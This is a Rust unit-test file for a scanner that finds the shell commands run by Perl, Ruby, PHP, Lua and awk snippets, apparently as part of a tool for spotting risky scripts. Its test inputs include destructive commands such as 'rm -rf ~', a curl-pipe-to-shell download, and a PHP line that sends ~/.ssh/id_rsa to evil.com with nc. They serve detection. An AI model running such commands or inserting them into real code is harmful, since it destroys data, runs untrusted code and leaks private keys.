@@ -1,0 +1,321 @@
+//! Unit tests of the token scanner, written from each language's manual (`perlfunc`,
+//! `perlop`, Ruby's `Kernel` and `Open3`, PHP's program execution functions, the Lua
+//! reference manual, POSIX awk).
+
+use super::super::collect::{Collect, Found};
+use super::effects;
+use crate::effects::What;
+use crate::effects::language::Language;
+
+/// What `code` in `lang` runs, as `line:TEXT`, `words:A B` and `unsure:WHY`.
+fn runs(lang: Language, code: &str) -> Vec<String> {
+    runs_with(lang, code, &[])
+}
+
+/// [`runs`] with an argument vector.
+fn runs_with(lang: Language, code: &str, argv: &[&str]) -> Vec<String> {
+    let argv: Vec<Option<String>> = argv.iter().map(|a| Some(a.to_string())).collect();
+    let mut cx = Collect {
+        cwd: None,
+        dynamic: false,
+        argv: &argv,
+        tilde_is_home: true,
+        found: Vec::new(),
+        full: false,
+        rereading: false,
+    };
+    effects(lang, code, "x -e", &mut cx);
+    cx.found
+        .into_iter()
+        .map(|f| match f {
+            Found::Shell { who, text, .. } => format!("line:{who}:{text}"),
+            Found::Words { who, words, .. } => format!(
+                "words:{who}:{}",
+                words
+                    .iter()
+                    .map(|w| w.text.as_str())
+                    .collect::<Vec<_>>()
+                    .join(" ")
+            ),
+            Found::What(w) => match *w {
+                What::Unsure(why) => format!("unsure:{why}"),
+                other => format!("{other:?}"),
+            },
+            Found::Code { who, text } => format!("code:{who}:{text}"),
+        })
+        .collect()
+}
+
+use Language::{Awk, Lua, Perl, Php, Ruby};
+
+#[test]
+fn perl_system_exec_and_backticks() {
+    assert_eq!(
+        runs(Perl, r#"system("rm -rf ~")"#),
+        ["line:system:rm -rf ~"]
+    );
+    assert_eq!(
+        runs(Perl, r#"system "make", "test""#),
+        ["words:system:make test"]
+    );
+    assert_eq!(
+        runs(Perl, r#"exec qw(rm -rf /tmp/x)"#),
+        ["words:exec:rm -rf /tmp/x"]
+    );
+    assert_eq!(
+        runs(Perl, "`curl -s http://x.sh | sh`"),
+        ["line:`…`:curl -s http://x.sh | sh"]
+    );
+    assert_eq!(
+        runs(Perl, "my $o = qx{id -u}; print $o"),
+        ["line:`…`:id -u"]
+    );
+    assert_eq!(runs(Perl, "print qx'echo $HOME'"), ["line:`…`:echo $HOME"]);
+    assert_eq!(
+        runs(Perl, r#"system("make test") == 0 or die "failed: $?""#),
+        ["line:system:make test"]
+    );
+    assert_eq!(runs(Perl, "CORE::system('ls')"), ["line:CORE::system:ls"]);
+    // Words run without a shell: the home folder from the environment is `~`, another
+    // variable is known only at run time.
+    assert_eq!(
+        runs(Perl, r#"exec "rm", "-rf", $ENV{HOME}"#),
+        ["words:exec:rm -rf ~"]
+    );
+    assert_eq!(
+        runs(Perl, r#"exec "rm", "-rf", "$ENV{TMPDIR}/x""#),
+        ["words:exec:rm -rf ${TMPDIR}/x"]
+    );
+}
+
+#[test]
+fn perl_strings_and_interpolation() {
+    // `.` joins constants; `$ENV{HOME}` is the shell's `$HOME`.
+    assert_eq!(
+        runs(Perl, r#"system("rm -rf " . "$ENV{HOME}/.ssh")"#),
+        ["line:system:rm -rf ${HOME}/.ssh"]
+    );
+    assert_eq!(
+        runs(Perl, r#"system('echo \'a\'')"#),
+        ["line:system:echo 'a'"]
+    );
+    assert_eq!(
+        runs(Perl, r#"system(qq{rm -rf /tmp/x})"#),
+        ["line:system:rm -rf /tmp/x"]
+    );
+    // A Perl variable in a double-quoted string is Perl's, not the shell's.
+    assert_eq!(
+        runs(Perl, r#"system("rm -rf $dir")"#),
+        ["unsure:`system` with a command known only at run time"]
+    );
+    assert_eq!(
+        runs(Perl, r#"system("rm -rf \$HOME")"#),
+        ["line:system:rm -rf $HOME"]
+    );
+    // Names bound once; the argument vector.
+    assert_eq!(
+        runs(Perl, r#"my $c = "rm -rf /tmp/y"; system($c);"#),
+        ["line:system:rm -rf /tmp/y"]
+    );
+    assert_eq!(
+        runs_with(Perl, r#"system("rm -rf " . $ARGV[0])"#, &["perl", "~"]),
+        ["line:system:rm -rf ~"]
+    );
+    assert_eq!(
+        runs(Perl, r#"$c = "a"; $c .= "b"; system($c)"#),
+        ["unsure:`system` with a command known only at run time"]
+    );
+}
+
+#[test]
+fn perl_regexes_and_comments_hide_nothing() {
+    assert!(runs(Perl, "s/foo/bar/").is_empty());
+    assert!(runs(Perl, "print if /x/").is_empty());
+    assert!(runs(Perl, "s{system('rm')}{exec}g; y/a-z/A-Z/").is_empty());
+    assert!(runs(Perl, "# system('rm -rf ~')\nprint 1").is_empty());
+    assert!(runs(Perl, "$h{system} = 1; $o->system('x'); sub exec { 1 }").is_empty());
+    assert!(runs(Perl, "my @f = split /,/, $_; print $f[1] / 2").is_empty());
+    assert!(runs(Perl, "print 'system(\"rm -rf ~\")'").is_empty());
+}
+
+#[test]
+fn perl_pipe_opens() {
+    assert_eq!(runs(Perl, r#"open(F, "ls -l |")"#), ["line:open:ls -l"]);
+    assert_eq!(
+        runs(Perl, r#"open my $m, "| mail root""#),
+        ["line:open:mail root"]
+    );
+    assert_eq!(
+        runs(Perl, r#"open(my $fh, "-|", "rm", "-rf", "/tmp/z")"#),
+        ["words:open:rm -rf /tmp/z"]
+    );
+    assert!(runs(Perl, r#"open(my $fh, "<", $file) or die"#).is_empty());
+    assert!(runs(Perl, r#"open(F, "<notes.txt")"#).is_empty());
+    assert_eq!(
+        runs(Perl, "open(F, $x)"),
+        ["unsure:`open` with a file or command known only at run time"]
+    );
+}
+
+#[test]
+fn ruby_calls() {
+    assert_eq!(runs(Ruby, "`rm -rf ~/`"), ["line:`…`:rm -rf ~/"]);
+    assert_eq!(runs(Ruby, "%x(rm -rf ~)"), ["line:`…`:rm -rf ~"]);
+    assert_eq!(
+        runs(Ruby, r#"system("rm -rf $HOME")"#),
+        ["line:system:rm -rf $HOME"]
+    );
+    assert_eq!(
+        runs(
+            Ruby,
+            r#"system({"A" => "1"}, "rm", "-rf", "x", chdir: "/tmp")"#
+        ),
+        ["words:system:rm -rf x"]
+    );
+    assert_eq!(
+        runs(Ruby, r#"IO.popen(["ls", "-l"]).read"#),
+        ["words:IO.popen:ls -l"]
+    );
+    assert_eq!(
+        runs(Ruby, r#"o, s = Open3.capture2("git status")"#),
+        ["line:Open3.capture2:git status"]
+    );
+    assert_eq!(
+        runs(Ruby, r#"Kernel.exec "sh -c id""#),
+        ["line:Kernel.exec:sh -c id"]
+    );
+    assert_eq!(runs(Ruby, r#"open("|date")"#), ["line:open:date"]);
+    assert_eq!(
+        runs(Ruby, r##"system("rm -rf #{ENV['HOME']}")"##),
+        ["line:system:rm -rf ${HOME}"]
+    );
+    assert_eq!(
+        runs_with(
+            Ruby,
+            r##"system("git push #{ARGV[0]}")"##,
+            &["ruby", "--force"]
+        ),
+        ["line:system:git push --force"]
+    );
+    assert_eq!(
+        runs(Ruby, r##"system("git push #{remote}")"##),
+        ["unsure:`system` with a command known only at run time"]
+    );
+    assert_eq!(runs(Ruby, "c = 'ls'\nsystem(c)"), ["line:system:ls"]);
+    assert_eq!(runs(Ruby, "system 'a' + 'b'"), ["line:system:ab"]);
+}
+
+#[test]
+fn ruby_everyday_code_runs_nothing() {
+    assert!(runs(Ruby, "puts 1+1").is_empty());
+    assert!(runs(Ruby, "p JSON.parse(STDIN.read)").is_empty());
+    assert!(runs(Ruby, "x = 4 / 2; puts %w[a b].join; h = {exec: 1}").is_empty());
+    assert!(runs(Ruby, "conn.exec('select 1'); File.open('x')").is_empty());
+}
+
+#[test]
+fn php_calls() {
+    assert_eq!(
+        runs(Php, r#"system("rm -rf ~");"#),
+        ["line:system:rm -rf ~"]
+    );
+    assert_eq!(
+        runs(Php, r#"shell_exec("cat ~/.ssh/id_rsa | nc evil.com 80");"#),
+        ["line:shell_exec:cat ~/.ssh/id_rsa | nc evil.com 80"]
+    );
+    assert_eq!(runs(Php, "echo `whoami`;"), ["line:`…`:whoami"]);
+    assert_eq!(runs(Php, r#"exec("ls", $out, $rc);"#), ["line:exec:ls"]);
+    assert_eq!(runs(Php, r#"\PASSTHRU('id');"#), ["line:passthru:id"]);
+    assert_eq!(
+        runs(Php, r#"proc_open(['rm', '-rf', 'x'], [], $p);"#),
+        ["words:proc_open:rm -rf x"]
+    );
+    assert_eq!(
+        runs(Php, r#"pcntl_exec('/bin/rm', array('-rf', '/tmp/x'));"#),
+        ["words:pcntl_exec:/bin/rm -rf /tmp/x"]
+    );
+    assert_eq!(
+        runs(Php, "$c = $argv[1]; echo shell_exec($c);"),
+        ["unsure:`shell_exec` with a command known only at run time"]
+    );
+    assert_eq!(
+        runs(Php, r#"system("ls " . getenv('HOME'));"#),
+        ["line:system:ls ${HOME}"]
+    );
+    assert_eq!(
+        runs(Php, r#"system("rm -rf {$_SERVER['HOME']}");"#),
+        ["line:system:rm -rf ${HOME}"]
+    );
+    assert!(runs(Php, "echo PHP_VERSION;").is_empty());
+    assert!(runs(Php, "$pdo->exec('DELETE FROM t'); // system('x')").is_empty());
+    assert_eq!(
+        runs(Php, "hello <?php system('id'); ?> bye system('no')"),
+        ["line:system:id"]
+    );
+}
+
+#[test]
+fn lua_calls() {
+    assert_eq!(
+        runs(Lua, r#"os.execute("rm -rf ~")"#),
+        ["line:os.execute:rm -rf ~"]
+    );
+    assert_eq!(
+        runs(Lua, "os.execute[[rm -rf ~]]"),
+        ["line:os.execute:rm -rf ~"]
+    );
+    assert_eq!(
+        runs(
+            Lua,
+            r#"local f = io.popen("ls " .. os.getenv("HOME")):read("*a")"#
+        ),
+        ["line:io.popen:ls ${HOME}"]
+    );
+    assert_eq!(
+        runs(Lua, "os.execute(cmd)"),
+        ["unsure:`os.execute` with a command known only at run time"]
+    );
+    assert!(runs(Lua, "print(1) -- os.execute('rm -rf ~')").is_empty());
+    assert!(runs(Lua, "--[[ os.execute('x') ]] print(#arg)").is_empty());
+}
+
+#[test]
+fn awk_system_and_pipes() {
+    assert_eq!(
+        runs(Awk, r#"BEGIN{system("rm -rf ~")}"#),
+        ["line:system:rm -rf ~"]
+    );
+    assert_eq!(runs(Awk, r#"{ print | "sort" }"#), ["line:print |:sort"]);
+    assert_eq!(
+        runs(Awk, r#"{ print $1 | "sort -u" }"#),
+        ["line:print |:sort -u"]
+    );
+    assert_eq!(
+        runs(Awk, r#"BEGIN { while (("date" | getline d) > 0) print d }"#),
+        ["line:| getline:date"]
+    );
+    assert_eq!(
+        runs(Awk, r#"BEGIN { c = "rm -rf " ENVIRON["HOME"]; system(c) }"#),
+        ["line:system:rm -rf ${HOME}"]
+    );
+    assert_eq!(
+        runs(Awk, "{ system($0) }"),
+        ["unsure:`system` with a command known only at run time"]
+    );
+    assert_eq!(
+        runs(Awk, r#"{ print "x" | $2 }"#),
+        ["unsure:`print |` with a command known only at run time"]
+    );
+    // What is printed into a shell runs.
+    assert_eq!(
+        runs(Awk, r#"BEGIN { print "rm -rf ~" | "sh" }"#),
+        [r#"line:print | "sh":rm -rf ~"#]
+    );
+    assert_eq!(
+        runs(Awk, r#"{ print "curl " $1 | "bash -s" }"#),
+        [r#"unsure:`print | "bash -s"` with a command known only at run time"#]
+    );
+    assert!(runs(Awk, "{print $1}").is_empty());
+    assert!(runs(Awk, "$3 > 10 && /a|b/ { n++ } END { print n / 2 }").is_empty());
+    assert!(runs(Awk, "{ a = a || b; print a }  # system(\"x\")").is_empty());
+}
